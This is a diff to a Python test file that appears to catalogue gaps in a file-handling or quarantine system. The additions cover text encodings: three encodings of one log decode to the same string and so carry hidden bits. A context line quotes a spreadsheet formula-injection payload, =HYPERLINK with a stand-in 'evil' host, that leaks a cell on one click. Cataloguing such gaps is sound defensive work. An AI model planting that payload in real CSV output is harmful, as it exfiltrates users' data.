@@ -60,7 +60,7 @@ from tests.support import attack_icontent_gzip as made_gz  # noqa: E402
 def _build() -> dict[str, bytes]:
     with tempfile.TemporaryDirectory() as tmp:
         work = Path(tmp)
-        return (
+        files = (
             made.json_name_cases()
             | made.PAGE_BEFORE_LAST
             | made.LAST_TYPED
@@ -78,6 +78,7 @@ def _build() -> dict[str, bytes]:
             | made_fits.comp_controls()
             | made_fits.fitsio_controls(work / "fitsio")
         )
+        return files | made.same_text_other_bytes(files)
 
 
 FILES = _build()
@@ -117,6 +118,15 @@ HOLES: dict[str, str] = {
     "starting = as a formula when it opens a .csv (this DDE launch asks first and is off by default in "
     'Microsoft 365 since 2023; =HYPERLINK("http://evil/?"&A1) leaks a cell on one click): text a client '
     "treats as active content; docs/quarantine.md calls text content data, so this may be by design",
+}
+_ENCODING = (
+    "published: the same text as ctl-log-utf16.log (UTF-16LE), here {how}: Python's utf-16/utf-8 readers "
+    "return the one str, so the choice among UTF-8, UTF-16LE and UTF-16BE is log2 3 = 1.6 bits a file no "
+    "reader returns; 'JSON and text: what exactness leaves' lists line ends and white space, not this"
+)
+HOLES |= {
+    "text-utf16be-of-ctl.log": _ENCODING.format(how="UTF-16BE behind FE FF"),
+    "text-utf8-of-ctl.log": _ENCODING.format(how="UTF-8"),
 }
 _EMPTY_MEMBER = (
     "refused (invalid-format: an empty member beside others): Python's gzip.open(path, 'ab') once a "
@@ -197,6 +207,14 @@ def test_apache_serves_the_json_name_holes_as_json():
             assert sent[name].split(";")[0].endswith("json"), (name, sent[name])
         for name in made.LAST_TYPED:
             assert not sent[name].split(";")[0].endswith(("json", "xml")), (name, sent[name])
+
+
+def test_the_encoding_cases_are_one_text():
+    """What makes them a hole: a reader returns one str for all three files."""
+    text = FILES["ctl-log-utf16.log"].decode("utf-16")
+    assert FILES["text-utf16be-of-ctl.log"].decode("utf-16") == text
+    assert FILES["text-utf8-of-ctl.log"].decode("utf-8") == text
+    assert FILES["ctl-log-utf16.log"].startswith(b"\xff\xfe")
 
 
 def test_the_quiet_session_gzip_is_what_python_reads(run):
